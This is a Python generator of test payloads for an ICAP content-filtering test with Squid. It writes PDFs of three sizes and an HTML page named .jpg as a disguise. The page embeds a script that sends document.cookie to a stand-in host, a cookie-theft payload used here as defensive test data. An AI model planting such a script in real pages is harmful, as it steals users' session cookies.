#!/usr/bin/python3
"""Payloads for the ICAP end-to-end test (tests/icap-e2e.sh), checked
through tests/expect/icap.tsv as well.

  page.jpg    an HTML page with a script, named .jpg (disguise)
  small.pdf   a one-page PDF of about 1 KiB: small enough that Squid can
              back it up, so a pass is an ICAP 204
  large.pdf   the same page plus an image XObject of 150 KiB (ASCII hex,
              so no byte run of it can look like another format): over
              Squid's 64 KiB backup limit, so a pass is an echoed 200
  medium.pdf  the same with a 30 KiB image: a document under 64 KiB, for
              make bench-icap's rows of a type passed with a 204

Usage: gen_icap.py OUTDIR    (writes OUTDIR/icap/*)
"""
import os
import random
import sys

HTML = (b"<!DOCTYPE html>\n<html><head><title>invoice</title></head><body>\n"
        b"<script>document.location='https://example.invalid/'+document.cookie</script>\n"
        b"</body></html>\n")


def pdf(objects):
    """A PDF with a correct cross-reference table from object bodies."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += (b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objects) + 1, xref))
    return bytes(out)


def stream(dictionary, data):
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def document(image_bytes=0):
    text = b"BT /F1 24 Tf 72 720 Td (Quarterly report) Tj ET\n"
    resources = b"/Font << /F1 4 0 R >>"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        None,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    if image_bytes:
        rng = random.Random(15)
        side = int((image_bytes // 3) ** 0.5)
        raw = bytes(rng.getrandbits(8) for _ in range(side * side * 3))
        hexed = b"\n".join(raw[i:i + 32].hex().upper().encode() for i in range(0, len(raw), 32))
        objs.append(stream(b"/Type /XObject /Subtype /Image /Width %d /Height %d "
                           b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /ASCIIHexDecode"
                           % (side, side), hexed + b">"))
        resources += b" /XObject << /Im1 6 0 R >>"
        text += b"q 200 0 0 200 72 400 cm /Im1 Do Q\n"
    objs.insert(4, stream(b"", text))
    objs[2] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
               b"/Resources << " + resources + b" >> /Contents 5 0 R >>")
    return pdf(objs)


def main():
    out = os.path.join(sys.argv[1], "icap")
    os.makedirs(out, exist_ok=True)
    files = {
        "page.jpg": HTML,
        "small.pdf": document(),
        "large.pdf": document(image_bytes=75 * 1024),
        "medium.pdf": document(image_bytes=15 * 1024),
    }
    for name, data in files.items():
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main()
